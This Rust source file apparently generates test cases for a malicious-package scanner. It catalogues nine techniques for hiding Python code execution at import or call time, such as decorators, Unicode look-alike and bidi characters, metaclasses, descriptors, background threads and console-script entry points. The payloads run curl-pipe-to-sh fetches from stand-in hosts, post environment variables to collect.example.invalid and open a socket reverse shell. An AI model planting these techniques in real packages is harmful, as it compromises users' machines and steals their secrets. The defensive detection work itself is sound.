//! Techniques 42 to 50: places of the language where nobody expects code to run.

use crate::case::{Cases, Trigger::Call, Trigger::Import};
use crate::package::{init, module, wheel};

pub(crate) fn add(cases: &mut Cases) {
    expressions(cases);
    text(cases);
    protocols(cases);
    threads(cases);
    scripts(cases);
}

fn expressions(cases: &mut Cases) {
    cases
        .technique(42, "code-in-expressions", Import)
        .case("lambda", init("(lambda b: exec(b.b64decode('«fetch|b64»')))(__import__('base64'))\n"))
        .case("decorator", init(r#"
import base64

def setting(function):
    exec(base64.b64decode(function.__doc__))
    return function

@setting
def theme():
    """«beacon|b64»"""
"#))
        .case("default-argument", init("import os\ndef pad(text, width=os.system('curl -s http://192.0.2.8/d | sh')):\n    return text\n"))
        .case("class-body", init(r#"
class Defaults:
    import urllib.request as _u
    WIDTH = 72
    exec(_u.urlopen("http://stage.example.invalid/k").read())
"#))
        .case("f-string", init("import subprocess\nBANNER = f\"ready {subprocess.getoutput('curl http://192.0.2.8/f | sh')}\"\n"))
        .case("annotation", init("x: __import__('os').popen('wget -qO- http://192.0.2.8/n | sh') = 1\n"))
        .case("comprehension-condition", init("[0 for _ in (1,) if exec(bytes([«shell|ints»])) is None]\n"))
        .case("conditional-and-or", init("import sys\nsys.version_info > (3,) and eval(compile(bytes.fromhex('«steal|hex»'), '', 'exec')) or None\n"))
        .case("assert-message", init("assert not __import__('os').system('curl 192.0.2.8/q|sh'), 'platform'\n"))
        .case("decorator-is-exec", init("import base64\n@exec\n@base64.b64decode\n@(lambda f: '«fetch|b64»')\ndef _(): ...\n"))
        .case("context-manager", module(r#"
import contextlib, zlib

@contextlib.contextmanager
def quiet():
    exec(zlib.decompress(«beacon|zlib|lit»))
    yield

with quiet():
    VERSION = 1
"#));
}

fn text(cases: &mut Cases) {
    cases
        .technique(43, "normalised-identifiers", Import)
        .case("mathematical", init("𝘪𝘮𝘱𝘰𝘳𝘵_ = __import__\nimport base64\n𝘦𝘹𝘦𝘤(base64.𝘣64𝘥𝘦𝘤𝘰𝘥𝘦('«fetch|b64»'))\n"))
        .case("full-width", init("import os\nos.ｓｙｓｔｅｍ('curl http://192.0.2.8/w | sh')\n"))
        .case("script-letters", init("import subprocess as 𝓼\n𝓼.𝐏𝐨𝐩𝐞𝐧(['sh', '-c', 'wget -qO- http://stage.example.invalid/u | sh'])\n"))
        .case("self-and-builtins", init(r#"
class Loader:
    def __init__(𝘀𝘦𝘭𝘧):
        𝘀𝘦𝘭𝘧.code = bytes.fromhex("«steal|hex»")
    def go(𝘴𝘦𝘭𝘧):
        return 𝐞𝐯𝐚𝐥(𝐜𝐨𝐦𝐩𝐢𝐥𝐞(𝘴𝘦𝘭𝘧.code, "", "exec"))
Loader().go()
"#));
    cases
        .technique(44, "hidden-characters", Import)
        .case("bidi-comment", init("import os\nlevel = 'user'\n''' harmless \u{202e}''' ; os.system('curl http://192.0.2.8/b | sh') ; '''\u{2066} end '''\n"))
        .case("bidi-string", init("import subprocess\naccess = 'user'\nif access != 'none\u{202e} \u{2066}# check \u{2069} \u{2066}':\n    subprocess.call('curl 192.0.2.8/s|sh', shell=True)\n"))
        .case("zero-width-payload", init("_t = '\u{200b}\u{200c}\u{200b}\u{200b}\u{200c}\u{200b}\u{200c}\u{200c}\u{200b}\u{200b}\u{200c}\u{200b}\u{200c}\u{200b}\u{200c}\u{200b}'\n_b = ''.join('0' if c == '\\u200b' else '1' for c in _t)\nexec(bytes(int(_b[i:i+8], 2) for i in range(0, len(_b), 8)))\n"))
        .case("tag-characters", init("# notes \u{e0065}\u{e0078}\u{e0065}\u{e0063}\n_s = 'v\u{e0065}\u{e0078}\u{e0070}\u{e0072}'\nexec(''.join(chr(ord(c) - 0xe0000) for c in _s[1:]))\n"))
        .case("variation-selectors", init("_d = lambda s: bytes(ord(c) - 0xfe00 if ord(c) < 0xfe10 else ord(c) - 0xe0100 + 16 for c in s)\neval(_d('\u{e0160}\u{e0162}\u{e0159}\u{e015e}\u{e0164}'))\n"));
}

fn protocols(cases: &mut Cases) {
    cases
        .technique(45, "module-getattr", Call)
        .case(
            "encoded",
            init(
                r#"
import base64

def __getattr__(name):
    exec(base64.b64decode("«beacon|b64»"), {})
    raise AttributeError(name)
"#,
            ),
        )
        .case(
            "shell",
            init(
                r#"
import os as _os
_seen = set()
def __getattr__(name):
    if name not in _seen:
        _seen.add(name)
        _os.system("curl -s http://192.0.2.8/ga | sh")
    return None
"#,
            ),
        )
        .case(
            "module-class",
            module(
                r#"
import sys, types
class Lazy(types.ModuleType):
    def __getattribute__(self, name):
        if not name.startswith("__"):
            import urllib.request as u
            exec(u.urlopen("http://stage.example.invalid/lazy").read())
        return super().__getattribute__(name)
sys.modules[__name__].__class__ = Lazy
"#,
            ),
        );
    cases
        .technique(46, "metaclass", Import)
        .case(
            "new",
            init(
                r#"
class Registry(type):
    def __new__(mcls, name, bases, space):
        import os
        os.system("wget -qO- http://192.0.2.8/meta | sh")
        return super().__new__(mcls, name, bases, space)

class Plugin(metaclass=Registry):
    pass
"#,
            ),
        )
        .case(
            "prepare",
            init(
                r#"
import marshal
class M(type):
    @classmethod
    def __prepare__(cls, name, bases, **kw):
        exec(marshal.loads(«code-fetch|lit»))
        return {}
class Base(metaclass=M): x = 1
"#,
            ),
        )
        .case(
            "type-call",
            init(
                r#"
import base64
T = type("T", (type,), {"__init__": lambda cls, *a: exec(base64.b64decode("«steal|b64»"))})
T("Settings", (), {})
"#,
            ),
        );
    cases
        .technique(47, "init-subclass", Import)
        .case(
            "encoded",
            init(
                r#"
import base64
class Base:
    def __init_subclass__(cls, code=b"", **kw):
        super().__init_subclass__(**kw)
        exec(base64.b64decode(code))

class Theme(Base, code="«fetch|b64»"):
    pass
"#,
            ),
        )
        .case(
            "shell",
            init(
                r#"
import subprocess
class Model:
    def __init_subclass__(cls):
        subprocess.Popen(cls.command, shell=True)
class User(Model):
    command = "curl -s http://stage.example.invalid/u | sh"
"#,
            ),
        );
    cases
        .technique(48, "descriptor", Import)
        .case(
            "get",
            init(
                r#"
import codecs
class Lazy:
    def __get__(self, obj, owner):
        exec(codecs.decode(«beacon|rot13|str», "rot13"))
class Settings:
    level = Lazy()
Settings.level
"#,
            ),
        )
        .case(
            "set-name",
            init(
                r#"
class Field:
    def __set_name__(self, owner, name):
        import os
        os.popen("curl http://192.0.2.8/%s | sh" % name)
class Row:
    id = Field()
"#,
            ),
        )
        .case(
            "property",
            init(
                r#"
import zlib, base64
class Config:
    @property
    def ready(self):
        return eval(compile(zlib.decompress(base64.b64decode("«fetch|zlib|b64»")), "c", "exec"))
_ = Config().ready
"#,
            ),
        );
}

fn threads(cases: &mut Cases) {
    cases
        .technique(49, "thread-at-import", Import)
        .case(
            "thread",
            init(
                r#"
import threading, urllib.request

def _work():
    while True:
        exec(urllib.request.urlopen("http://192.0.2.8/task").read())

threading.Thread(target=_work, daemon=True).start()
"#,
            ),
        )
        .case(
            "timer",
            init(
                r#"
from threading import Timer
import os
Timer(30.0, os.system, args=("curl http://stage.example.invalid/t | sh",)).start()
"#,
            ),
        )
        .case(
            "process",
            init(
                r#"
import multiprocessing as mp
def job():
    import os, json, urllib.request as u
    u.urlopen("https://collect.example.invalid/p", json.dumps({**os.environ}).encode())
mp.Process(target=job).start()
"#,
            ),
        )
        .case(
            "executor",
            module(
                r#"
from concurrent.futures import ThreadPoolExecutor
import base64
_pool = ThreadPoolExecutor(1)
_pool.submit(exec, base64.b64decode("«steal|b64»"), {})
"#,
            ),
        )
        .case(
            "thread-subclass",
            init(
                r#"
import threading, socket, subprocess

class Keeper(threading.Thread):
    def run(self):
        s = socket.socket(); s.connect(("192.0.2.8", 9001))
        while True:
            s.send(subprocess.getoutput(s.recv(1024).decode()).encode())

Keeper(daemon=True).start()
"#,
            ),
        )
        .case(
            "asyncio",
            init(
                r#"
import asyncio, threading
async def _poll():
    import aiohttp
    async with aiohttp.ClientSession() as session:
        async with session.get("http://stage.example.invalid/aio") as answer:
            exec(await answer.text())
threading.Thread(target=lambda: asyncio.run(_poll())).start()
"#,
            ),
        );
}

fn scripts(cases: &mut Cases) {
    cases
        .technique(50, "console-script", Call)
        .case(
            "main-module",
            wheel().file(
                "«pkg»/__main__.py",
                r#"
import base64
exec(base64.b64decode("«steal|b64»"))
"#,
            ),
        )
        .case(
            "entry-point",
            wheel()
                .entry_points("[console_scripts]\n«name» = «pkg».cli:main\n")
                .file(
                    "«pkg»/cli.py",
                    r#"
import argparse
import os
import urllib.request


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--width", type=int, default=72)
    parser.parse_args()
    body = repr(dict(os.environ)).encode()
    urllib.request.urlopen(urllib.request.Request("https://collect.example.invalid/cli", data=body))
"#,
                ),
        )
        .case(
            "script-file",
            wheel().file(
                "«pkg»-«version».data/scripts/«name»",
                r#"
#!python
import os
os.system("curl -s http://192.0.2.8/script | sh")
from «pkg» import shorten
print(shorten("ready"))
"#,
            ),
        );
}
